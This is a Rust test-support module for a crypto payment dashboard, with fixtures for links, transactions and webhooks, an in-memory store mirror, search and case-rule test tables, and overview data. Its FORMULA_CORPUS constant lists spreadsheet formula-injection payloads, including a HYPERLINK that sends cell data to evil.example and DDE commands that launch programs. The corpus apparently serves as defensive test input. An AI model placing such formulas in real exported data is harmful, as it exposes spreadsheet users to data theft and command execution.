//! Builders and helpers for tests and benchmarks, written once: rows of each
//! resource, a mirror in memory that answers the app's reads, and error
//! values. Compiled for the crate's own tests and, through the
//! `test-support` feature, for the integration tests and benches; never in
//! a release build.

use crate::api::{
    ErrorKind, LinkStatus, Page, PaymentLink, Transaction, TransactionStatus, Webhook, WebhookEvent, WebhookStatus,
};
use crate::app::{App, Cmd, ErrorInfo, ListAsk, ListRows, Msg};
use crate::store::{Account, Batch, Change, Place, Store};
use chrono::{DateTime, Duration, TimeZone, Utc};
use rust_decimal::Decimal;

/// The tests' "now": a fixed instant.
pub fn t0() -> DateTime<Utc> {
    Utc.timestamp_opt(1_800_000_000, 0).single().unwrap_or_default()
}

/// A decimal from text, for amounts in tests.
pub fn dec(text: &str) -> Decimal {
    text.parse().unwrap_or_default()
}

/// An active 75.00 USDT link with a checkout URL, created at `t0`. Change
/// fields with struct update syntax: `PaymentLink { status, ..link("pl_x") }`.
pub fn link(id: &str) -> PaymentLink {
    PaymentLink {
        id: id.to_string(),
        url: Some(format!("https://pay.pik.global/{id}")),
        amount: dec("75.00"),
        currency: "USDT".into(),
        description: None,
        status: LinkStatus::Active,
        created_at: t0(),
        paid_at: None,
        expires_at: None,
    }
}

/// Link number `n` of a numbered set: `pl_00042`, "Order 42", one second
/// newer than link `n - 1`.
pub fn numbered_link(n: u64, status: LinkStatus) -> PaymentLink {
    PaymentLink {
        description: Some(format!("Order {n}")),
        status,
        created_at: t0() - Duration::seconds(100_000 - n as i64),
        ..link(&format!("pl_{n:05}"))
    }
}

/// A pending 75.00 USDT transaction on `pl_00001`, created at `t0`.
pub fn txn(id: &str) -> Transaction {
    Transaction {
        id: id.to_string(),
        payment_link_id: Some("pl_00001".into()),
        amount: dec("75.00"),
        currency: "USDT".into(),
        status: TransactionStatus::Pending,
        tx_hash: None,
        created_at: t0(),
        confirmed_at: None,
        settled_at: None,
    }
}

/// Transaction number `n`: `txn_00042`.
pub fn numbered_txn(n: u64, status: TransactionStatus) -> Transaction {
    Transaction { status, created_at: t0() - Duration::seconds(100_000 - n as i64), ..txn(&format!("txn_{n:05}")) }
}

/// An active webhook for `payment.settled`.
pub fn hook(id: &str) -> Webhook {
    Webhook {
        id: id.to_string(),
        url: format!("https://example.com/{id}"),
        events: vec![WebhookEvent::PaymentSettled],
        status: WebhookStatus::Active,
        created_at: Some(t0()),
    }
}

/// One page of `data` out of `total`.
pub fn page<T>(data: Vec<T>, total: u64) -> Page<T> {
    Page { data, total, limit: Some(50), offset: Some(0), skipped: 0 }
}

/// An API failure as the app keeps it.
pub fn error(kind: ErrorKind, status: Option<u16>, summary: &str) -> ErrorInfo {
    ErrorInfo {
        kind,
        summary: summary.into(),
        message: String::new(),
        status,
        retry_after: None,
        may_have_happened: false,
    }
}

/// PIK could not be reached.
pub fn unreachable() -> ErrorInfo {
    error(ErrorKind::Connect, None, "PIK unreachable")
}

/// PIK answered with this status.
pub fn refusal(status: u16, summary: &str) -> ErrorInfo {
    error(ErrorKind::Api, Some(status), summary)
}

/// A write that timed out after it was sent: it may have happened.
pub fn lost_answer() -> ErrorInfo {
    ErrorInfo { may_have_happened: true, ..error(ErrorKind::Timeout, None, "PIK did not answer in time") }
}

/// A mirror in memory that answers the app's reads as the worker does: a
/// real store (the same SQL as the dashboard's), on its own runtime.
pub struct TestMirror {
    runtime: tokio::runtime::Runtime,
    pub store: Store,
}

impl TestMirror {
    /// An empty mirror.
    pub fn new() -> Self {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
        let Ok(runtime) = runtime else { panic!("a test runtime") };
        let account = Account::new("http://127.0.0.1:1", &crate::api::ApiKey::new("pik_test_mirror"));
        let opened = match Store::open(Place::Memory, &account) {
            Ok(opened) => opened,
            Err(err) => panic!("a mirror in memory: {err}"),
        };
        TestMirror { runtime, store: opened.store }
    }

    /// Links `newest` down to 1 (all active), transactions 3 to 1, webhooks 2 and 1.
    pub fn numbered(newest: u64) -> Self {
        Self::holding(
            (1..=newest).rev().map(|n| numbered_link(n, LinkStatus::Active)).collect(),
            vec![
                numbered_txn(3, TransactionStatus::Pending),
                numbered_txn(2, TransactionStatus::Settled),
                numbered_txn(1, TransactionStatus::Failed),
            ],
            vec![hook("wh_2"), hook("wh_1")],
        )
    }

    pub fn holding(links: Vec<PaymentLink>, transactions: Vec<Transaction>, webhooks: Vec<Webhook>) -> Self {
        let mirror = Self::new();
        mirror.save(Batch { links, transactions, webhooks: Some(webhooks), ..Batch::default() });
        mirror
    }

    /// Writes rows as the sync would; returns what the store announced, for
    /// [`Msg::StoreChanged`].
    pub fn save(&self, batch: Batch) -> Change {
        let saved = self.runtime.block_on(self.store.save(batch));
        match saved {
            Ok(saved) => saved.change,
            Err(err) => panic!("saving to the test mirror: {err}"),
        }
    }

    pub fn block_on<F: std::future::Future>(&self, future: F) -> F::Output {
        self.runtime.block_on(future)
    }

    /// The answer to one read of the app, if `cmd` is one.
    pub fn answer(&self, cmd: &Cmd) -> Option<Msg> {
        self.block_on(read_for(&self.store, cmd))
    }
}

/// What `store` answers to one read of the app, if `cmd` is one, as the
/// worker would.
pub async fn read_for(store: &Store, cmd: &Cmd) -> Option<Msg> {
    Some(match cmd.clone() {
        Cmd::List { request, ask } => {
            let result = match ask {
                ListAsk::Window(ask) => store.window(*ask).await.map(ListRows::Window),
                ListAsk::Webhooks => store.list_webhooks().await.map(|page| ListRows::Webhooks(page.data)),
            };
            Msg::Listed { request, result: result.map_err(|e| e.to_string()) }
        }
        Cmd::Search { request, query, offset, limit } => {
            let result = store.search(query, offset, limit).await.map_err(|e| e.to_string());
            Msg::Searched { request, result }
        }
        Cmd::Record(act) => {
            let subject = act.subject.clone();
            Msg::Recorded { subject, result: store.append_act(*act.clone()).await.map_err(|e| e.to_string()) }
        }
        Cmd::ReadOrder { request, link_id } => {
            Msg::OrderRead { request, result: store.order(&link_id).await.map(Box::new).map_err(|e| e.to_string()) }
        }
        _ => return None,
    })
}

impl Default for TestMirror {
    fn default() -> Self {
        Self::new()
    }
}

/// Every link and transaction a store holds, newest first, read a window
/// at a time by cursor as the panes read them.
pub async fn stored(store: &Store) -> (Vec<PaymentLink>, Vec<Transaction>) {
    use crate::store::{Anchor, Kinds, ListQuery, SearchQuery, Sort, WindowAsk, Windowed};
    let mut links = Vec::new();
    let mut transactions = Vec::new();
    for kinds in [Kinds::Links, Kinds::Transactions] {
        let query = ListQuery { filter: SearchQuery::everything(kinds), sort: Sort::default() };
        let mut anchor = Anchor::First;
        loop {
            // From a cursor, the window starts with that row, read already.
            let skip = usize::from(anchor != Anchor::First);
            let ask = WindowAsk { query: query.clone(), anchor, limit: 1000, count: false };
            let (last, more) = match store.window(ask).await {
                Ok(Windowed::Links(window)) => {
                    let last = window.rows.last().map(|(cursor, _)| cursor.clone());
                    links.extend(window.rows.into_iter().skip(skip).map(|(_, row)| row));
                    (last, window.more_after)
                }
                Ok(Windowed::Transactions(window)) => {
                    let last = window.rows.last().map(|(cursor, _)| cursor.clone());
                    transactions.extend(window.rows.into_iter().skip(skip).map(|(_, row)| row));
                    (last, window.more_after)
                }
                Err(err) => panic!("reading the mirror: {err}"),
            };
            match (last, more) {
                (Some(cursor), true) => anchor = Anchor::From(cursor),
                _ => break,
            }
        }
    }
    (links, transactions)
}

/// Answers the reads in `cmds` from `mirror` at `now`, and the reads those
/// answers lead to, until none is left; returns every other command.
pub fn answer_all(app: &mut App, cmds: Vec<Cmd>, mirror: &TestMirror, now: DateTime<Utc>) -> Vec<Cmd> {
    let mut left = Vec::new();
    let mut pending = cmds;
    // A list reads a window at a time: a few rounds reach any place.
    for _ in 0..50 {
        if pending.is_empty() {
            break;
        }
        let mut next = Vec::new();
        for cmd in pending {
            match mirror.answer(&cmd) {
                Some(msg) => next.extend(app.update(msg, now)),
                None => left.push(cmd),
            }
        }
        pending = next;
    }
    left.extend(pending);
    left
}

/// An app whose panes have read `mirror` at `t0`.
pub fn loaded_app(settings: crate::app::Settings, width: u16, height: u16, mirror: &TestMirror) -> App {
    let mut app = App::new(settings, width, height, t0());
    let cmds = app.update(Msg::Tick, t0());
    answer_all(&mut app, cmds, mirror, t0());
    app
}

/// The reads of the mirror in `cmds`.
pub fn reads(cmds: &[Cmd]) -> Vec<ListAsk> {
    cmds.iter()
        .filter_map(|c| match c {
            Cmd::List { ask, .. } => Some(ask.clone()),
            _ => None,
        })
        .collect()
}

/// The request id of the first write in `cmds`.
pub fn write_request(cmds: &[Cmd]) -> Option<crate::app::list::RequestId> {
    cmds.iter().find_map(|c| match c {
        Cmd::Write { request, .. } => Some(*request),
        _ => None,
    })
}

/// Known rows for the search table: links and transactions with chosen
/// descriptions, amounts, hashes, statuses, currencies and times.
pub fn search_fixture() -> (Vec<PaymentLink>, Vec<Transaction>) {
    let at = |minutes: i64| t0() - Duration::minutes(minutes);
    let l = |id: &str, minutes: i64, amount: &str, currency: &str, status: LinkStatus, description: Option<&str>| {
        PaymentLink {
            amount: dec(amount),
            currency: currency.into(),
            status,
            description: description.map(str::to_string),
            created_at: at(minutes),
            ..link(id)
        }
    };
    let links = vec![
        l("pl_8f2k3m", 60, "75.00", "USDT", LinkStatus::Paid, Some("Order #1234")),
        l("pl_8f2aaa", 50, "120.00", "USDC", LinkStatus::Active, Some("Invoice 88 – café")),
        l("pl_77a9zz", 40, "0.015", "BTC", LinkStatus::Expired, None),
        l("pl_66bb02", 30, "75", "USDT", LinkStatus::Active, Some("Order #7512 refund")),
        l("pl_55cc03", 20, "1500.50", "ETH", LinkStatus::Deactivated, Some("Hosting renewal #1234")),
        l("pl_44dd04", 3 * 24 * 60, "9.99", "USDT", LinkStatus::Active, Some("Ticket 42 – Berlin")),
    ];
    let t = |id: &str,
             link: &str,
             minutes: i64,
             amount: &str,
             currency: &str,
             status: TransactionStatus,
             hash: Option<&str>| {
        Transaction {
            payment_link_id: Some(link.into()),
            amount: dec(amount),
            currency: currency.into(),
            status,
            tx_hash: hash.map(str::to_string),
            created_at: at(minutes),
            ..txn(id)
        }
    };
    let mut transactions = vec![
        t("txn_a1", "pl_8f2k3m", 55, "75.00", "USDT", TransactionStatus::Settled, Some("0x9f3c5e7a11")),
        t("txn_a2", "pl_8f2k3m", 58, "75.00", "USDT", TransactionStatus::Failed, None),
        t("txn_b1", "pl_77a9zz", 35, "0.015", "BTC", TransactionStatus::Confirmed, Some("000000000019d6689c085ae1")),
        t("txn_c1", "pl_55cc03", 10, "1500.50", "ETH", TransactionStatus::Pending, None),
        t("txn_d1", "pl_66bb02", 5, "75", "USDT", TransactionStatus::Settled, Some("0x9f3d000000")),
    ];
    // Confirmed and settled some minutes after they were made; txn_a1 was
    // settled at t0 - 40 min, txn_d1 at t0 - 1 min.
    for (txn, confirmed, settled) in [(0, 50, Some(40)), (2, 30, None), (4, 4, Some(1))] {
        transactions[txn].confirmed_at = Some(at(confirmed));
        transactions[txn].settled_at = settled.map(at);
    }
    (links, transactions)
}

/// The search table: (query, kinds, the ids expected, newest first). Run
/// against every store backend over [`search_fixture`].
pub const SEARCH_CASES: &[(&str, crate::store::Kinds, &[&str])] = {
    use crate::store::Kinds::{Both, Links, Transactions};
    &[
        // An id, and an id prefix.
        ("pl_8f2k3m", Links, &["pl_8f2k3m"]),
        // A link id in Both finds the link and the payments made through it.
        ("pl_8f2k3m", Both, &["txn_a1", "txn_a2", "pl_8f2k3m"]),
        ("pl_8f2", Links, &["pl_8f2aaa", "pl_8f2k3m"]),
        // By when a payment was settled or confirmed (t0 is 2027-01-15 08:00 UTC).
        ("settled:2027-01-15", Both, &["txn_d1", "txn_a1"]),
        ("settled:2027-01-14", Transactions, &[]),
        ("confirmed:2027-01-14..2027-01-15 0.015", Both, &["txn_b1"]),
        ("settled:2027-01-15T07:20:00Z..2027-01-15T07:59:00Z", Transactions, &["txn_d1", "txn_a1"]),
        ("settled:2027-01-15T07:21:00Z..2027-01-15T07:58:00Z", Transactions, &[]),
        ("txn_a", Transactions, &["txn_a1", "txn_a2"]),
        // Words of a description, any case; a phrase; a word's prefix.
        ("order", Links, &["pl_66bb02", "pl_8f2k3m"]),
        ("ORDER 1234", Both, &["pl_8f2k3m"]),
        ("\"order #1234\"", Both, &["pl_8f2k3m"]),
        ("renew", Links, &["pl_55cc03"]),
        ("café", Links, &["pl_8f2aaa"]),
        // An amount: 75 finds 75.00 and 75 (and, as a prefix, order 7512).
        ("75", Both, &["txn_d1", "pl_66bb02", "txn_a1", "txn_a2", "pl_8f2k3m"]),
        ("751", Both, &["pl_66bb02"]),
        ("1500.5", Both, &["txn_c1", "pl_55cc03"]),
        ("0.015", Both, &["txn_b1", "pl_77a9zz"]),
        // A tx hash prefix.
        ("0x9f3c", Both, &["txn_a1"]),
        ("0x9f3", Transactions, &["txn_d1", "txn_a1"]),
        ("000000000019d6", Transactions, &["txn_b1"]),
        // A link id: the link and its transactions.
        ("link:pl_8f2k3m", Both, &["txn_a1", "txn_a2", "pl_8f2k3m"]),
        // Field filters, alone and combined.
        ("status:paid", Links, &["pl_8f2k3m"]),
        ("status:settled", Transactions, &["txn_d1", "txn_a1"]),
        ("currency:usdt status:active", Links, &["pl_66bb02", "pl_44dd04"]),
        ("amount:>=100", Both, &["txn_c1", "pl_55cc03", "pl_8f2aaa"]),
        ("amount:<1", Both, &["txn_b1", "pl_77a9zz"]),
        ("amount:75 currency:USDT", Transactions, &["txn_d1", "txn_a1", "txn_a2"]),
        ("order amount:>70 amount:<=75", Links, &["pl_66bb02", "pl_8f2k3m"]),
        ("from:2027-01-14", Links, &["pl_55cc03", "pl_66bb02", "pl_77a9zz", "pl_8f2aaa", "pl_8f2k3m"]),
        ("to:2027-01-12", Links, &["pl_44dd04"]),
        // Nothing found.
        ("nothing-like-this", Both, &[]),
        ("status:paid currency:BTC", Links, &[]),
    ]
};

/// The Overview as the mirror might answer for the day starting at `from`:
/// three currencies, hourly settled USDT volume, and a case of each kind
/// and a disabled webhook, dated relative to `now`.
pub fn overview_fixture(from: DateTime<Utc>, now: DateTime<Utc>) -> crate::store::Overview {
    use crate::cases::{Case, CaseKind};
    use crate::store::{CurrencyFigures, Figure, Overview};
    let figure = |count: u64, amount: &str| Figure { count, amount: dec(amount) };
    let money = vec![
        CurrencyFigures {
            currency: "BTC".into(),
            settled: figure(10, "0.35732652"),
            confirmed: figure(2, "0.08920672"),
            pending: Figure::default(),
            failed: figure(11, "0.2643227"),
            links_created: 1,
            links_paid: 1,
        },
        CurrencyFigures {
            currency: "USDC".into(),
            settled: figure(19, "24789.95"),
            confirmed: figure(3, "1944.00"),
            pending: figure(1, "1789.50"),
            failed: figure(6, "9690.49"),
            links_created: 1,
            links_paid: 0,
        },
        CurrencyFigures {
            currency: "USDT".into(),
            settled: figure(28, "13290.50"),
            confirmed: figure(5, "5168.98"),
            pending: figure(8, "10469.48"),
            failed: figure(22, "26815.93"),
            links_created: 5,
            links_paid: 1,
        },
    ];
    let volumes =
        ["0", "0", "1200.50", "0", "4683.00", "310", "0", "0", "2222", "75.00", "0", "0", "3300", "0", "1500"];
    let chart = (0..24)
        .map(|hour| (from + Duration::hours(hour), dec(volumes.get(hour as usize).copied().unwrap_or("0"))))
        .collect();
    let at = |minutes: i64| now - Duration::minutes(minutes);
    let case =
        |link_id: &str, met: &[CaseKind], currency: &str, amounts: (&str, &str), minutes: i64, about: &str| Case {
            link_id: link_id.into(),
            kind: met[0],
            met: met.to_vec(),
            currency: currency.into(),
            expected: Some(dec(amounts.0)),
            received: dec(amounts.1),
            since: at(minutes),
            description: (!about.is_empty()).then(|| about.to_string()),
        };
    let disabled =
        Webhook { url: "https://old.example.net/hook".into(), status: WebhookStatus::Disabled, ..hook("wh_old000") };
    Overview {
        money,
        chart_currency: Some("USDT".into()),
        chart,
        cases: vec![
            case(
                "pl_twice00001",
                &[CaseKind::PaidTwice, CaseKind::Overpaid],
                "USDC",
                ("1176.00", "2352.00"),
                300,
                "Invoice 5512",
            ),
            case("pl_short00001", &[CaseKind::Underpaid], "USDT", ("75.00", "74.10"), 160, "Order #1234"),
            case("pl_uncredited", &[CaseKind::NotCredited], "BTC", ("0.04460336", "0.04460336"), 150, "Ticket 3776"),
            case("pl_expired01", &[CaseKind::PaidLate], "USDT", ("1064.00", "1064.00"), 70, "Hosting renewal #7781"),
            case("pl_failed0054", &[CaseKind::FailedNeverPaid], "USDC", ("990.00", "0"), 54, ""),
            case("pl_stuck0047m", &[CaseKind::StuckPending], "USDT", ("541.99", "0"), 47, "Café order 2245"),
        ],
        disabled: vec![disabled],
    }
}

/// Answers every Overview request in `cmds` with `overview`, at `now`;
/// returns the commands the answers led to.
pub fn answer_overview(
    app: &mut App,
    cmds: Vec<Cmd>,
    overview: &crate::store::Overview,
    now: DateTime<Utc>,
) -> Vec<Cmd> {
    let mut next = Vec::new();
    for cmd in cmds {
        if let Cmd::Overview { request, .. } = cmd {
            next.extend(app.update(Msg::Overview { request, result: Ok(overview.clone()) }, now));
        }
    }
    next
}

/// Cells a merchant's customer could type into a description.
pub const FORMULA_CORPUS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1-1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    "＝1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
];

/// An `[[alerts]]` table as the config file gives it, from `(key, value)`
/// pairs (`("when", "settled")`, `("bell", "")`…), said to be on `line`.
pub fn alert_entry(line: usize, pairs: &[(&str, &str)]) -> crate::app::alerts::AlertEntry {
    let mut entry = crate::app::alerts::AlertEntry { line, ..Default::default() };
    for (key, value) in pairs {
        let value = Some(value.to_string());
        match *key {
            "when" => entry.when = value,
            "case" => entry.case = value,
            "currency" => entry.currency = value,
            "min_amount" => entry.min_amount = value,
            "notify" => entry.notify = value,
            "bell" => entry.bell = true,
            _ => panic!("no {key} in an alert rule"),
        }
    }
    entry
}

/// The id of a process that ran and is gone (for leases of killed holders).
pub fn exited_pid() -> u32 {
    let exited = std::process::Command::new("true").spawn().and_then(|mut child| {
        let pid = child.id();
        child.wait().map(|_| pid)
    });
    exited.unwrap_or_else(|e| panic!("{e}"))
}

/// Every link judged straight from its rows, with the default rules: what
/// the store's kept facts must agree with.
pub fn judged(links: &[PaymentLink], transactions: &[Transaction], now: DateTime<Utc>) -> Vec<crate::cases::Case> {
    use crate::cases::{CaseRules, LinkFacts, judge};
    links
        .iter()
        .filter_map(|link| {
            let on: Vec<Transaction> = transactions
                .iter()
                .filter(|t| t.payment_link_id.as_deref() == Some(link.id.as_str()))
                .cloned()
                .collect();
            judge(&LinkFacts::of(&link.id, Some(link), &on, None), &CaseRules::default(), now)
        })
        .collect()
}

/// One row of the table of case rules at their edges.
pub struct CaseEdge {
    pub what: &'static str,
    pub rules: crate::cases::CaseRules,
    pub link: PaymentLink,
    pub payments: Vec<Transaction>,
    pub expected: Option<crate::cases::CaseKind>,
}

/// Every kind at its threshold: at the edge, one unit under and one over
/// (a cent for amounts, a minute for times), each on its own link, judged
/// at [`t0`]. Run by the rules' unit test and by both stores' contract.
pub fn case_edges() -> Vec<CaseEdge> {
    use crate::cases::{CaseKind::*, CaseRules, Tolerance};
    use TransactionStatus::{Confirmed, Failed, Pending, Settled};
    let exact = CaseRules::default();
    let cent = CaseRules {
        per_currency: [("USDT".to_string(), Tolerance::Amount(dec("0.01")))].into(),
        ..CaseRules::default()
    };
    let percent = CaseRules { tolerance: Tolerance::Percent(dec("1")), ..CaseRules::default() };
    type Paid<'a> = &'a [(&'a str, TransactionStatus, i64)];
    let table: Vec<(&str, &CaseRules, LinkStatus, Paid<'_>, Option<crate::cases::CaseKind>)> = vec![
        ("exact amount", &exact, LinkStatus::Paid, &[("75.00", Settled, 90)], None),
        ("another precision is no difference", &exact, LinkStatus::Paid, &[("75.000000", Settled, 90)], None),
        ("a cent short", &exact, LinkStatus::Paid, &[("74.99", Settled, 90)], Some(Underpaid)),
        ("a cent over", &exact, LinkStatus::Paid, &[("75.01", Settled, 90)], Some(Overpaid)),
        ("short by the tolerance", &cent, LinkStatus::Paid, &[("74.99", Settled, 90)], None),
        ("a cent under the tolerance", &cent, LinkStatus::Paid, &[("74.98", Settled, 90)], Some(Underpaid)),
        ("over by the tolerance", &cent, LinkStatus::Paid, &[("75.01", Settled, 90)], None),
        ("a cent over the tolerance", &cent, LinkStatus::Paid, &[("75.02", Settled, 90)], Some(Overpaid)),
        ("short by 1 %", &percent, LinkStatus::Paid, &[("74.25", Settled, 90)], None),
        ("a cent under 1 %", &percent, LinkStatus::Paid, &[("74.24", Settled, 90)], Some(Underpaid)),
        ("over by 1 %", &percent, LinkStatus::Paid, &[("75.75", Settled, 90)], None),
        ("a cent over 1 %", &percent, LinkStatus::Paid, &[("75.76", Settled, 90)], Some(Overpaid)),
        (
            "two full payments",
            &exact,
            LinkStatus::Paid,
            &[("75", Settled, 90), ("75.00", Confirmed, 80)],
            Some(PaidTwice),
        ),
        (
            "a second payment a cent short of full",
            &exact,
            LinkStatus::Paid,
            &[("75", Settled, 90), ("74.99", Settled, 80)],
            Some(Overpaid),
        ),
        ("two halves", &exact, LinkStatus::Paid, &[("37.50", Settled, 90), ("37.50", Settled, 80)], None),
        ("paid after expiry", &exact, LinkStatus::Expired, &[("75", Settled, 90)], Some(PaidLate)),
        ("paid after deactivation", &exact, LinkStatus::Deactivated, &[("75", Settled, 90)], Some(PaidLate)),
        ("pending a minute under 30", &exact, LinkStatus::Active, &[("75", Pending, 29)], None),
        ("pending 30 minutes", &exact, LinkStatus::Active, &[("75", Pending, 30)], None),
        ("pending 31 minutes", &exact, LinkStatus::Active, &[("75", Pending, 31)], Some(StuckPending)),
        ("confirmed a minute under 2 h", &exact, LinkStatus::Paid, &[("75", Confirmed, 119)], None),
        ("confirmed 2 h", &exact, LinkStatus::Paid, &[("75", Confirmed, 120)], None),
        ("confirmed 2 h 1 min", &exact, LinkStatus::Paid, &[("75", Confirmed, 121)], Some(NotCredited)),
        ("failed a minute under 1 h", &exact, LinkStatus::Active, &[("75", Failed, 59)], None),
        ("failed 1 h", &exact, LinkStatus::Active, &[("75", Failed, 60)], None),
        ("failed 1 h 1 min", &exact, LinkStatus::Active, &[("75", Failed, 61)], Some(FailedNeverPaid)),
        ("failed on an expired link", &exact, LinkStatus::Expired, &[("75", Failed, 1)], Some(FailedNeverPaid)),
        ("failed, then paid", &exact, LinkStatus::Paid, &[("75", Failed, 90), ("75", Settled, 80)], None),
    ];
    table
        .into_iter()
        .enumerate()
        .map(|(n, (what, rules, status, paid, expected))| {
            let id = format!("pl_edge{n:02}");
            let payments = paid
                .iter()
                .enumerate()
                .map(|(k, (amount, status, minutes_ago))| {
                    let created_at = t0() - chrono::Duration::minutes(*minutes_ago);
                    let on_chain = matches!(status, Confirmed | Settled);
                    Transaction {
                        payment_link_id: Some(id.clone()),
                        amount: dec(amount),
                        currency: "USDT".into(),
                        status: status.clone(),
                        created_at,
                        confirmed_at: on_chain.then_some(created_at),
                        settled_at: (*status == Settled).then_some(created_at),
                        ..txn(&format!("txn_edge{n:02}_{k}"))
                    }
                })
                .collect();
            let link = PaymentLink {
                amount: dec("75"),
                currency: "USDT".into(),
                status,
                created_at: t0() - chrono::Duration::hours(3),
                ..link(&id)
            };
            CaseEdge { what, rules: rules.clone(), link, payments, expected }
        })
        .collect()
}

/// An act of "alice@desk" about `subject`, done.
pub fn act(what: &str, subject: &str, at: DateTime<Utc>) -> crate::audit::Act {
    crate::audit::Act {
        at,
        agent: "alice@desk".into(),
        profile: Some("live".into()),
        act: what.into(),
        subject: Some(subject.into()),
        outcome: crate::audit::DONE.into(),
        request_id: None,
        detail: "0.90 USDT".into(),
    }
}
